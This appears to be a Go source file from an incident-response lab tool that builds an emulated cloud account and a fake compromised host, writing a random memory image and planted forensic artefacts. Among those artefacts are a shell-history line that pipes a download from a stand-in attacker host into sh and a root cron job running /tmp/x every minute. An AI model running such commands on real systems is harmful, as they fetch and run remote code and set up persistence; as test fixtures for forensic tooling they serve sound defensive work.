package world

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"

	"github.com/quicklime-ir/quicklime/packaging/lab/emulator"
	"github.com/quicklime-ir/quicklime/proto/lime"
)

// instances gives what runs in the account: the two that have names, and
// those that Hosts asks for.
func (w *World) instances() []emulator.Instance {
	out := []emulator.Instance{instance(Victim, 1), instance(Neighbour, 2)}
	for n := range w.cfg.Hosts {
		out = append(out, instance(w.Host(n), n+3))
	}
	return out
}

// Host names the instances that Hosts asks for, from 0.
func (w *World) Host(n int) string { return fmt.Sprintf("i-%017x", 0xc0de00000000000+n) }

// instance is one of the account's, with two volumes, and two interfaces in
// two groups.
func instance(id string, n int) emulator.Instance {
	out := emulator.Instance{ID: id, VPC: "vpc-0123456789abcdef0", Subnet: "subnet-0123456789abcdef0", AZ: Region + "a",
		ImageID: "ami-0123456789abcdef0", PrivateIP: address(10, n), Role: "lab-web", UserData: "#cloud-config\n"}
	groups := []string{"sg-0123456789abcdef0", "sg-0123456789abcdef1"}
	for i := range 2 {
		unique := fmt.Sprintf("%017x", 0x123456789abcde00+n<<4+i)
		out.Volumes = append(out.Volumes, "vol-"+unique)
		out.Interfaces = append(out.Interfaces, emulator.Interface{ID: "eni-" + unique, Subnet: out.Subnet, PrivateIP: address(10+i, n), Groups: groups[:1+i]})
	}
	return out
}

// address gives the nth address of a network of the account, 10 or 11.
func address(network, n int) string {
	return netip.AddrFrom4([4]byte{byte(network), byte(n >> 16), byte(n >> 8), byte(n)}).String()
}

// MakeHost makes what an agent without a guest runs on: an image of so many
// bytes above 1 MiB for its memory, two thirds of them random, and a folder
// for its files. Several agents may share it, as they only read.
func MakeHost(dir string, memory uint64) (image, root string, err error) {
	image, root = filepath.Join(dir, "memory.lime"), filepath.Join(dir, "root")
	if err := makeImage(image, []lime.Range{{Start: 0x1000, End: 0x9fbff}, {Start: 0x100000, End: 0x100000 + memory - 1}}); err != nil {
		return "", "", err
	}
	for path, text := range map[string]string{
		"proc/sys/kernel/osrelease": "6.1.0-lab\n", "var/log/auth.log": "Nov 23 sshd: Accepted publickey for root\n",
		"root/.bash_history": "curl evil.example | sh\n", "etc/passwd": "root:x:0:0::/root:/bin/sh\n", "etc/cron.d/evil": "* * * * * root /tmp/x\n",
	} {
		full := filepath.Join(root, path)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			return "", "", err
		}
		if err := os.WriteFile(full, []byte(text), 0o644); err != nil {
			return "", "", err
		}
	}
	return image, root, nil
}

func makeImage(path string, ranges []lime.Range) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	random := rand.NewChaCha8([32]byte{1})
	for _, r := range ranges {
		b := make([]byte, r.Len())
		_, _ = random.Read(b[:len(b)*2/3]) // never fails, says math/rand/v2; the rest is zero
		if _, err := f.Write(append(lime.AppendHeader(nil, r), b...)); err != nil {
			return err
		}
	}
	return f.Close()
}
